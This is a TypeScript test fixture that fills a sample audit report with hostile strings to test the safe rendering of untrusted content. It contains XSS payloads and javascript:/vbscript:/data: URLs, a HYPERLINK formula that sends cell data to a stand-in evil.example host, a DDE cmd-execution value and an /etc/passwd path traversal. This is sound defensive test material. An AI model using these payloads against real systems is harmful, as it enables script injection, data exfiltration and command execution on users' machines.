// A report whose every page-derived string is hostile: titles, quotes, URLs, site name, messages.
import type { AuditReport } from '../../src/core/index.js';
import { sampleReport } from '../helpers/sample-report.js';

export const HOSTILE_TEXT = [
  '[x](javascript:alert(1))',
  '![t](http://evil.example/i.png)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '[a][ref] [ref]: javascript:alert(2)',
  '<a href="javascript:alert(3)">x</a>',
  '`code` **b** _i_ ~~s~~ | pipe',
  '&#106;avascript:alert(4)',
];
export const HOSTILE_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://evil.example/a)(b"c<d>e[f]',
  'vbscript:msgbox(1)',
];

const pick = <T>(xs: T[], i: number): T => xs[i % xs.length]!;

/** sampleReport with every string a page or a list could have given made hostile. */
export function hostileReport(): AuditReport {
  const r = structuredClone(sampleReport) as AuditReport;
  let n = 0;
  const text = (): string => pick(HOSTILE_TEXT, n++);
  const url = (): string => pick(HOSTILE_URLS, n++);
  r.organisation.name = `=HYPERLINK("http://evil.example") [x](javascript:alert(1)) <img src=x onerror=alert(1)>`;
  r.organisation.url = 'javascript:alert(1)';
  r.organisation.code = '@SUM(1+1)*cmd|" /C calc"!A0';
  for (const c of [...r.criteria, ...r.packs.flatMap((p) => p.criteria)]) {
    c.title = text();
    c.summary = text();
    for (const f of c.findings) {
      f.message = text();
      if (f.correction !== undefined) f.correction = text();
      f.waiver = { reason: text(), author: '-2+3', expires: '2099-01-01' };
      for (const e of f.evidence) {
        e.title = text();
        e.quote = `${text()} ${text()}`;
        e.url = url();
        e.location = text();
        e.screenshot = pick(['javascript:alert(5)', '../../../etc/passwd', 'evidence/c1-ok.png'], n++);
      }
    }
    if (c.searched) {
      c.searched.urls = [url(), url()];
      c.searched.queries = [text()];
    }
  }
  for (const s of r.sources) {
    s.url = url();
    s.reason = text();
  }
  r.problems = [{ url: url(), kind: 'parse-error', message: text() }, { url: url(), kind: 'timeout', message: text() }];
  return r;
}
